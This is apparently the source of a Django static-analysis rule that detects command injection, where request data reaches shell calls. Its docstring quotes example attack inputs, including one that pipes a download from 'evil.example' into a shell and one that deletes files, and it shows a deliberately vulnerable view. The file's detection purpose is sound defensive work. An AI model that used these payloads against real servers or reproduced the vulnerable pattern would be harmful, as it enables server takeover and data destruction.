"""DJE411 command-injection

## What it does
Finds shell commands built from data the HTTP client sent: `os.system()`, `os.popen()`,
`subprocess.getoutput()`, `asyncio.create_subprocess_shell()`, and `subprocess.run()` /
`call()` / `check_output()` / `Popen()` with `shell=True`, whose command comes from
`request.GET`/`POST`/`data`/..., a URL parameter of the view or a local variable holding
one of those (also a program name taken from the request without a shell). Also across
functions and files: a view passing such a value to a project function that builds a
command from that parameter, itself or further down (up to four calls deep); the finding
is on the call and names the function running the command.

## Why is this bad?
The shell reads the whole string as a command line: a value such as `x; rm -rf /` or
`$(curl evil.example | sh)` runs the attacker's own commands on the server with the web
server's rights. Quoting by hand is easy to get wrong.

## Example
```python
def thumbnail(request):
    name = request.GET["file"]
    subprocess.run(f"convert {name} -resize 200 thumb.png", shell=True)
```

## Use instead
```python
def thumbnail(request):
    name = request.GET["file"]
    subprocess.run(["convert", name, "-resize", "200", "thumb.png"], check=True)
```
Pass a list of arguments without a shell (and validate `name` against what is allowed);
if a shell is unavoidable, quote every value with `shlex.quote()`.

## References
- https://docs.python.org/3/library/subprocess.html#security-considerations
- https://owasp.org/www-community/attacks/Command_Injection
"""

from __future__ import annotations


from django_expert.analyzers.facts.calls import call_index
from django_expert.analyzers.facts.names import Names
from django_expert.analyzers.facts.sinks import command_argument, command_built_from
from django_expert.analyzers.facts.taint import Taint
from django_expert.analyzers.project.tainted_calls import findings_across
from django_expert.analyzers.rules.registry import rule

@rule("DJE411", "command-injection", tier="recommended", triggers=("subprocess", "os.system", "popen", "system(", "shell", "request"))
def check(ctx):
    names = Names(ctx.facts, ctx.tree)
    if ctx.project is not None:
        yield from _across_functions(ctx)
    for scope in call_index(ctx.tree).functions():
        function, owner = scope.function, scope.owner
        sinks = [(call, command) for call in scope.calls
                 for command in [command_argument(call, names.call(call))] if command is not None]
        if not sinks:
            continue
        taint = Taint(function, names.qualify, owner, module=ctx.module)
        for call, command in sinks:
            if not command_built_from(taint, command):
                continue
            yield ctx.report(
                call,
                f"`{names.call(call)}` runs a command built from request data in `{function.name}`: a client can "
                f"run its own commands on the server; pass a list of arguments without a shell",
            )


def _across_functions(ctx):
    """Request data handed to a project function that puts it in this rule's sink."""
    return findings_across(
        ctx, "shell",
        "request data passed to `{callee}()` in `{function}` reaches a shell command{where}: a client can"
        " run its own commands on the server; pass a list of arguments without a shell there",
        "uses it here",
    )
